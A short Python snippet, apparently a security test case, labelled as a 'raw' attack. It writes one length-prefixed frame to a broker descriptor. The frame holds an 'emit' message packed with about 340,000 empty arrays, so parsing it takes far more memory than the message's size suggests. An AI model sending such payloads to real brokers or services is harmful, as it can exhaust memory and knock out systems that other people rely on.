# attack: raw | fills one frame with objects that take more room than their letters
import json, os, struct
def send(body, payload=b""):
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    os.write(BROKER_FD, struct.pack("<II", len(body), len(payload)) + body + payload)
send(b'{"op":"emit","data":{"value":[' + b"[]," * 340_000 + b"0]}}")
